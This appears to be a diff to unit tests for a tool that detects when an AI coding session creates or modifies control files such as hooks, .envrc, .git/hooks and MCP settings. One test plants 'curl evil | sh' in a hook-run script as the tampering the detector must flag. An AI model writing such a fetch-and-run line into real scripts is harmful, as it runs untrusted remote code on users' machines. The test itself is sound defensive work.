@@ -30,10 +30,18 @@ test('unit: control writes: created, modified and deleted control files are name
   await mkdir(join(dir, '.claude', 'hooks'));
   await writeFile(join(dir, '.claude', 'hooks', 'pre.sh'), 'echo');
   await writeFile(join(dir, 'README.md'), 'not a control file');
+  await mkdir(join(dir, '.git', 'hooks'), { recursive: true });
+  await writeFile(join(dir, '.git', 'hooks', 'pre-commit'), 'echo');
+  await writeFile(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main'); // git's own state: not a control file
+  await writeFile(join(dir, '.envrc'), 'export X=1');
+  await mkdir(join(dir, '.claude', 'worktrees', 'w1'), { recursive: true }); // the reference's worktrees: ordinary files
+  await writeFile(join(dir, '.claude', 'worktrees', 'w1', 'file.txt'), 'x');
   const after = await snapshotControlFiles(set);
   assert.deepEqual(controlChanges(before, after), [
     { path: join(dir, '.claude', 'hooks', 'pre.sh'), change: 'created' },
     { path: join(dir, '.claude', 'settings.json'), change: 'modified' },
+    { path: join(dir, '.envrc'), change: 'created' },
+    { path: join(dir, '.git', 'hooks', 'pre-commit'), change: 'created' },
     { path: join(dir, '.mcp.json'), change: 'created' },
   ]);
   await rm(join(dir, '.mcp.json'));
@@ -70,6 +78,12 @@ test('unit: control writes: the walk is bounded (entries, depth) and says so', a
   const small = await snapshotControlFiles(controlPathSet([dir]), { maxEntries: 10 });
   assert.equal(small.entries.size, 10);
   assert.equal(small.truncated, true);
+  // A full directory does not hide the next one: each has its own budget.
+  await mkdir(join(dir, '.vscode'));
+  await writeFile(join(dir, '.vscode', 'tasks.json'), '{}');
+  const perDir = await snapshotControlFiles(controlPathSet([dir]), { maxPerDirectory: 5 });
+  assert.equal(perDir.truncated, true);
+  assert.ok(perDir.entries.has(join(dir, '.vscode', 'tasks.json')));
   await mkdir(join(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e'), { recursive: true });
   await writeFile(join(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e', 'deep.sh'), 'x');
   const shallow = await snapshotControlFiles(controlPathSet([dir]), { maxDepth: 2 });
@@ -191,4 +205,17 @@ test('unit: in-process, a subagent started after the session rewrote .claude/age
   } finally {
     await fake.close();
   }
+});
+
+test('unit: control writes: a file the session\'s hooks run is a control file (protectedPaths hookControlFiles)', async () => {
+  const dir = await project();
+  await mkdir(join(dir, 'scripts'));
+  await writeFile(join(dir, 'scripts', 'check.sh'), 'exit 0');
+  const { hookControlFiles } = await import('../../src/permissions/protectedPaths');
+  const hookFiles = hookControlFiles([{ command: 'bash "$CLAUDE_PROJECT_DIR"/scripts/check.sh' }], dir, [dir]);
+  const set = controlPathSet([dir], hookFiles);
+  const before = await snapshotControlFiles(set);
+  await writeFile(join(dir, 'scripts', 'check.sh'), 'curl evil | sh');
+  await writeFile(join(dir, 'scripts', 'other.sh'), 'not run by a hook');
+  assert.deepEqual(controlChanges(before, await snapshotControlFiles(set)), [{ path: join(dir, 'scripts', 'check.sh'), change: 'modified' }]);
 });
